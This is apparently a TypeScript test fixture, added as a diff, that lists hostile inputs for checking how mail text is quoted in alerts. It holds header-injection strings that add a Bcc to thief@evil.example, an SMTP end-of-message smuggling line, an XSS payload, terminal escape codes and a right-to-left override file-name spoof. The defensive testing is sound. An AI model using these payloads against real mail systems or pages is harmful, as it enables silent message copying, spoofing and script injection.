@@ -1,0 +1,22 @@
+/** Texts that a mail can make an alert quote. By what they try. */
+export const HOSTILE: { readonly [what: string]: string } = {
+  'a header of its own': 'Hello\r\nBcc: thief@evil.example\r\nX-Evil: 1',
+  'a body of its own': 'Hello\r\n\r\n<h1>Pay here</h1>',
+  'a bare line feed': 'Hello\nBcc: thief@evil.example',
+  'a bare carriage return': 'Hello\rBcc: thief@evil.example',
+  'other line separators': 'Hello\u2028Bcc: thief@evil.example\u2029and\u0085more\u000bmore\u000cmore',
+  'the end of the message': 'Hello\r\n.\r\nMAIL FROM:<thief@evil.example>\r\n',
+  'an encoded word': '=?utf-8?B?DQpCY2M6IHRoaWVmQGV2aWwuZXhhbXBsZQ==?=',
+  'a second address': '"Li" <thief@evil.example>, other@evil.example',
+  'a script': '<script>alert(1)</script><img src=x onerror=alert(1)>&quot;\'">',
+  'zero bytes': 'He\0llo\0',
+  'terminal commands': '\u001b[2J\u001b]0;owned\u0007Hello',
+  'reversed text': 'invoice\u202efdp.exe \u2066hidden\u2069',
+  'half a character': 'Hello \ud83d and \udce6',
+  'emoji and scripts': '📦🇨🇳👨‍👩‍👧 清关异常 عاجل שלום Ünï',
+  'nothing at all': '',
+  'only spaces': ' \t \n ',
+  'a megabyte in one line': 'x'.repeat(1_000_000),
+  'a megabyte of lines': 'line\r\n'.repeat(170_000),
+  'a megabyte of wide characters': '清'.repeat(333_000),
+};
